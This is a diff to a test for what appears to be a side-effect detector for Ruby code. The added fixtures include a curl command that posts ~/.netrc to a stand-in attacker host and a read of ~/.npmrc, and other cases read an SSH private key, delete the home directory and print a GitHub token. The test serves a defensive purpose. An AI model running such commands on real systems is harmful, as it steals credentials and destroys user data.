@@ -21,6 +21,11 @@ test('ruby: process execution, files, network, environment', () => {
     { code: 'File.read(File.expand_path("~/.ssh/id_rsa"))', effects: ['read File.read ~/.ssh/id_rsa'] },
     { code: 'File.write("/tmp/a", "b")', effects: ['write File.write /tmp/a'] },
     { code: 'FileUtils.rm_rf(Dir.home)', effects: ['delete FileUtils.rm_rf ~'] },
+    {
+      code: `system("curl -d @#{ENV['HOME']}/.netrc https://evil.example/n")`,
+      effects: ['exec system curl -d @~/.netrc https://evil.example/n'],
+    },
+    { code: 'File.read(ENV["HOME"] + "/.npmrc")', effects: ['read File.read ~/.npmrc'] },
     { code: 'Net::HTTP.get(URI("https://evil.example/x"))', effects: ['network Net::HTTP.get https://evil.example/x'] },
     { code: 'puts ENV["GITHUB_TOKEN"]; puts ENV["HOME"]', effects: ['env-read ENV GITHUB_TOKEN'] },
   ]);
